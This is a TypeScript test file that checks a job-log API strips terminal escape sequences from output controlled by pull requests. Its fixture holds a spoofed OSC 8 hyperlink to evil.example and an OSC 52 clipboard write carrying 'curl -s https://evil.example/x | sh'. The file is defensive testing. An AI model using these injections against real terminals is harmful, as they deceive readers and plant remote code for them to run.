import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openSqliteStore } from "../../src/store/sqlite-store.js";
import type { Store } from "../../src/store/store.js";
import { startApiServer } from "../support/api-server.js";

/**
 * `GET /api/v1/jobs/{id}/log` hands a run's output (the PR's code wrote it) to scripts, which
 * print it in a terminal (`jq -r .streams[].text`). The console takes out what the PR could use
 * there (a hyperlink to any address, any other operating system command: OSC 52 writes the
 * reader's clipboard); the API's answer is described as the console shows it.
 */
let store: Store;
let api: Awaited<ReturnType<typeof startApiServer>>;
let jobId: number;

const hyperlink = "\x1b]8;;https://evil.example/approve\x07Approve this plan here\x1b]8;;\x07";
const clipboard = `\x1b]52;c;${Buffer.from("curl -s https://evil.example/x | sh\n").toString("base64")}\x07`;

beforeAll(async () => {
  store = openSqliteStore(":memory:");
  api = await startApiServer(store);
  const target = { installationId: 1, repo: { owner: "acme", name: "infra" }, cloneUrl: "http://git/acme/infra.git", pr: 3 };
  jobId = await store.enqueueInternal(target, { kind: "plan", trigger: "autoplan", actor: "alice" });
  const text = `Plan: ${hyperlink}\n${clipboard}\x1b[31m- destroy db\x1b[0m\n`;
  await store.appendJobLog({ jobId, repo: "acme/infra", pr: 3, kind: "plan", project: "db", text }, 1_000_000);
});

afterAll(async () => {
  await api?.stop();
  await store?.close();
});

describe("a job's log on the API", () => {
  it("attack: carries no terminal command of the run's (no hyperlink, no clipboard write)", async () => {
    const reader = await api.token(["read"], ["acme/infra"]);
    const { streams } = (await (await api.get(`/api/v1/jobs/${jobId}/log`, reader)).json()) as { streams: { text: string }[] };
    const text = streams.map((s) => s.text).join("");
    expect(text).not.toContain("\x1b]");
    expect(text).not.toContain("evil.example/approve");
  });

  it("keeps the text and its colours, as the console shows them (control)", async () => {
    const reader = await api.token(["read"], ["acme/infra"]);
    const { streams } = (await (await api.get(`/api/v1/jobs/${jobId}/log`, reader)).json()) as {
      streams: { project: string; text: string }[];
    };
    expect(streams).toHaveLength(1);
    expect(streams[0]?.project).toBe("db");
    expect(streams[0]?.text).toContain("Plan: Approve this plan here\n");
    expect(streams[0]?.text).toContain("\x1b[31m- destroy db\x1b[0m\n");
  });
});
